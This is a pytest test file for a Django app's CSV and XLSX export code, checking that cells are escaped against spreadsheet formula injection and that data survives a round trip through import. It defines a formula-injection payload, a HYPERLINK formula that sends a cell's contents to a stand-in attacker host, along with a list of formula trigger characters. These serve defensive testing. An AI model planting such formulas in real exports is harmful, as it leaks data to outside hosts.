"""Formula injection into exports (issue 11, item 5): no exported cell runs as a spreadsheet formula.

Every CSV and XLSX writer passes text through `bilim.exchange.safecell`; the readers undo it, so an
export still imports back unchanged. Numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from bilim.exchange import safecell, writers
from bilim.exchange.services import export_orgunits, export_values, import_file

EVIL = '=HYPERLINK("http://evil.example/?"&D2,"open")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _risky(text: str) -> bool:
    return isinstance(text, str) and text[:1] in TRIGGERS and not text.lstrip("+-").replace(".", "", 1).isdigit()


@given(st.text(alphabet=st.sampled_from("='+-@\t\rx1.")) | st.text())
def test_cell_and_unescape_round_trip(text):
    written = safecell.cell(text)
    assert safecell.unescape(written) == text
    assert not _risky(written)


@pytest.mark.parametrize("number", ["-5", "-0.25", "+3", "-1e-3", "12"])
def test_numbers_stay_numbers(number):
    assert safecell.cell(number) == number


def test_value_writers_neutralise_comments_and_keep_negative_numbers():
    rows = [("DEF", "2024", "S1", -5.0, "", "", "", "", "", "", EVIL),
            ("DEF", "2024", "S1", 2.5, "", "", "", "", "", "", "@SUM(A1)")]
    text = writers.to_text(writers.write_values_csv, rows)
    recs = list(csv.reader(io.StringIO(text)))
    assert recs[1][3] == "-5" and recs[1][-1] == "'" + EVIL and recs[2][-1] == "'@SUM(A1)"
    buf = io.BytesIO()
    writers.write_values_xlsx(rows, buf)
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    cells = list(ws.iter_rows(min_row=2, values_only=False))
    assert cells[0][3].value == -5 and cells[0][3].data_type == "n"
    assert all(c.data_type != "f" for row in cells for c in row)
    assert cells[0][10].value == "'" + EVIL


@pytest.mark.django_db
def test_value_export_imports_back_unchanged(act):
    from bilim.collection.models import DataValue
    from bilim.collection.services import save_value
    from tests.collection.world import build_world

    build_world(act)
    save_value(data_element="CAPACITY", period="2024S", org_unit="S1", value=300, comment=EVIL, actor="t")
    save_value(data_element="CAPACITY", period="2024S", org_unit="S2", value=200, comment="'=already quoted",
               actor="t")
    text = export_values()
    assert "'" + EVIL.replace('"', '""') in text
    for data in (text.encode(), export_values(format="xlsx")):
        r = import_file(data)
        assert r.ok and r.unchanged == 2 and r.updated == 0, r.errors
    assert DataValue.objects.get(org_unit__code="S1").comment == EVIL
    assert DataValue.objects.get(org_unit__code="S2").comment == "'=already quoted"


@pytest.mark.django_db
def test_orgunit_and_registry_exports(act, admin_client):
    from bilim.registry.models import OrgUnit
    from tests.collection.world import build_world

    build_world(act)
    OrgUnit.objects.filter(code="S1").update(name_en=EVIL, name_ru="+7 701 000 00 00")
    text = export_orgunits()
    assert f"'{EVIL}".replace('"', '""') in text and "'+7 701" in text
    r = import_file(text.encode(), format="orgunits", dry_run=True)
    assert r.ok and r.created == 0 and r.unchanged == r.rows, r.errors
    ws = load_workbook(io.BytesIO(export_orgunits(format="xlsx"))).active
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    csv_page = admin_client.get("/registry/export.csv").content.decode("utf-8-sig")
    assert "'" + EVIL.replace('"', '""') in csv_page
    xlsx_page = load_workbook(io.BytesIO(admin_client.get("/registry/export.xlsx").content)).active
    values = [c.value for row in xlsx_page.iter_rows() for c in row]
    assert "'" + EVIL in values
    assert all(c.data_type != "f" for row in xlsx_page.iter_rows() for c in row)


@pytest.mark.django_db
def test_audit_csv(admin_client):
    from bilim.audit import services as audit

    audit.record(EVIL, "registry.rename", "OrgUnit", "X1", None, {"name": "x"})
    body = b"".join(admin_client.get("/audit/export.csv").streaming_content).decode("utf-8-sig")
    rec = [r for r in csv.reader(io.StringIO(body)) if len(r) > 2 and "HYPERLINK" in r[2]]
    assert rec and rec[0][2] == "'" + EVIL
